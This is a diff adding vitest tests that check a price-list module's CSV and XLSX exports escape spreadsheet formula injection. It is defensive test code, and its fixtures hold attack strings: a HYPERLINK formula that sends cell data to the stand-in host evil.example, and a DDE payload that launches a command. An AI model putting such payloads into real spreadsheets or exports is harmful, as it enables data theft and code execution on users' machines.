@@ -5,11 +5,22 @@
 import ExcelJS from 'exceljs';
 import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
-import { EXPORT_HEADERS, ROW_ISSUES, checkRows, parseNumber, type ImportContext } from '../../../../shared/price-list';
+import JSZip from 'jszip';
+import {
+  EXPORT_HEADERS,
+  ROW_ISSUES,
+  checkRows,
+  cleanText,
+  fromSpreadsheetText,
+  parseNumber,
+  spreadsheetCell,
+  spreadsheetText,
+  type ImportContext,
+} from '../../../../shared/price-list';
 import ar from '../../../i18n/locales/ar/stock.json';
 import en from '../../../i18n/locales/en/stock.json';
 import zh from '../../../i18n/locales/zh/stock.json';
-import { exportCsv, exportXlsx, readCsv, readXlsx, toImportRows, type ExportLine } from './spreadsheet';
+import { exportCsv, exportXlsx, readCsv, readPriceList, readXlsx, toImportRows, type ExportLine } from './spreadsheet';
 
 const CEMENT = 'ca7e0000-0000-4000-8000-000000000001';
 const OLD = '01d00000-0000-4000-8000-000000000001';
@@ -154,6 +165,95 @@ describe('export then import', () => {
     const rows = checkRows(toImportRows(sheet, sheet.mapping), context);
     expect(rows.map((r) => [r.action, r.issues])).toEqual([['unchanged', []], ['unchanged', []]]);
     expect(rows[0].name).toBe('أسمنت، مقاوم "للأملاح"');
+  });
+});
+
+describe('formulas in an export', () => {
+  // Every character OWASP (CSV Injection) and ASVS 1.2.10 name as a formula start, their
+  // full-width forms, and the quote itself (which the escape uses).
+  const TRIGGERS = ['=', '+', '-', '@', '\t', '\r', '\uff1d', '\uff0b', '\uff0d', '\uff20', "'"];
+  const FORMULA_START = /^[=+\-@\t\r\n\0\uff1d\uff0b\uff0d\uff20]/;
+  const ids = TRIGGERS.map((_, i) => `f0000000-0000-4000-8000-${String(i).padStart(12, '0')}`);
+  const attack = (c: string) => `${c}HYPERLINK("http://evil.example/?d="&A1,"Cement")`;
+  const lines: ExportLine[] = TRIGGERS.map((c, i) => ({
+    id: ids[i],
+    sku: `${c}${i}`,
+    name: attack(c),
+    price: i === 0 ? -5 : 10 + i,
+    unit: `${c}kg`,
+    stock: i === 0 ? -2 : i,
+    category: null,
+    description: `${c}cmd|' /C calc'!A0`,
+  }));
+  const context: ImportContext = { ...ctx(), products: ids.map((id, i) => ({ id, sku: lines[i].sku as string, price: lines[i].price as number, stock_quantity: lines[i].stock as number })) };
+  const isNumber = (cell: string) => /^-?\d+(\.\d+)?$/.test(cell);
+
+  it('writes no CSV cell a spreadsheet would run: text starts with a quote, each text cell is quoted, numbers stay numbers', () => {
+    const csv = exportCsv(lines, 'en', Papa);
+    for (const delimiter of [',', ';']) {
+      // A spreadsheet set to another separator splits on it: a quoted cell stays one cell.
+      const cells = Papa.parse<string[]>(csv.slice(1), { delimiter }).data.slice(1).flat();
+      const live = cells.filter((c) => FORMULA_START.test(c) && !isNumber(c));
+      expect(live, `delimiter ${delimiter}`).toEqual([]);
+    }
+    const [header, first] = Papa.parse<string[]>(csv.slice(1)).data;
+    expect(header[3]).toBe('Price');
+    expect(first[2]).toBe(`'${attack('=')}`);
+    expect(first[3]).toBe('-5'); // a number, written bare
+    expect(csv).toContain(',-5,');
+    expect(csv).toContain(`"'=HYPERLINK(`);
+  });
+
+  it('writes no XLSX formula: text cells are strings starting with a quote, numbers stay numeric cells', async () => {
+    const zip = await JSZip.loadAsync(await exportXlsx(lines, 'en'));
+    const xml = await zip.file('xl/worksheets/sheet1.xml')!.async('string');
+    expect(xml).not.toMatch(/<f[\s>]/);
+    const shared = [...((await zip.file('xl/sharedStrings.xml')?.async('string')) ?? '').matchAll(/<si>(.*?)<\/si>/gs)].map(([, si]) => si);
+    const textOf = (attrs: string, inner: string) => (/t="s"/.test(attrs) ? shared[Number(inner.replace(/<[^>]+>/g, ''))] : inner).replace(/<[^>]+>/g, '').replace(/&apos;/g, "'");
+    const cells = [...xml.matchAll(/<c r="([A-Z]+)(\d+)"([^>]*)>(.*?)<\/c>/gs)].filter(([, , row]) => row !== '1');
+    expect(cells.length).toBe(TRIGGERS.length * 7); // no category
+    for (const [, col, , attrs, inner] of cells) {
+      if (col === 'D' || col === 'F') {
+        expect(attrs, `${col}: a number`).not.toMatch(/t="/);
+        expect(inner).toMatch(/^<v>-?\d+<\/v>$/);
+      } else {
+        expect(attrs).toMatch(/t="(s|inlineStr)"/);
+        const text = textOf(attrs, inner);
+        if (col !== 'A') expect(text.startsWith("'"), `${col}: ${text}`).toBe(true);
+      }
+    }
+    expect(xml).toContain('<c r="D2"><v>-5</v></c>');
+  });
+
+  it.each(['csv', 'xlsx'] as const)('reads its %s back as the same text, and a negative number as the number', async (kind) => {
+    const file = kind === 'csv' ? new TextEncoder().encode(exportCsv(lines, 'en', Papa)).buffer : await exportXlsx(lines, 'en');
+    const sheet = await readPriceList(kind, file as ArrayBuffer);
+    expect(parseNumber(sheet.rows[0].cells[3])).toBe(-5);
+    const rows = checkRows(toImportRows(sheet, sheet.mapping), context);
+    // The first line's -5 is read as -5, which a price may not be.
+    expect(rows.map((r) => [r.action, r.issues])).toEqual(lines.map((_, i) => (i ? ['unchanged', []] : ['invalid', ['price_not_number', 'stock_not_number']])));
+    // Every text as exported; a leading tab or line break aside, which every import trims.
+    for (const field of ['name', 'sku', 'unit', 'description'] as const) {
+      expect(rows.map((r) => r[field])).toEqual(lines.map((l) => cleanText(l[field])));
+    }
+    const exact = lines.map((l, i) => [l.name, rows[i].name]).filter(([name]) => !/^\s/.test(name!));
+    expect(exact.length).toBe(TRIGGERS.length - 2);
+    for (const [written, read] of exact) expect(read).toBe(written);
+  });
+
+  it('escapes exactly: quoted when it would start a formula or starts with a quote, and undone once', () => {
+    for (const c of [...TRIGGERS, '\n', '\0']) {
+      expect(spreadsheetText(`${c}x`)).toBe(`'${c}x`);
+      expect(fromSpreadsheetText(spreadsheetText(`${c}x`))).toBe(`${c}x`);
+      expect(fromSpreadsheetText(spreadsheetText(`'${c}x`))).toBe(`'${c}x`);
+    }
+    for (const text of ['Cement', ' =x', '5-10 mm', 'a=b', "O'Neil", '', '1,250']) {
+      expect(spreadsheetText(text)).toBe(text);
+      expect(fromSpreadsheetText(text)).toBe(text);
+    }
+    expect(fromSpreadsheetText("'x")).toBe("'x"); // a quote before anything else is the text's own
+    expect(spreadsheetCell(-5)).toBe(-5);
+    expect(spreadsheetCell(null)).toBeNull();
   });
 });
 
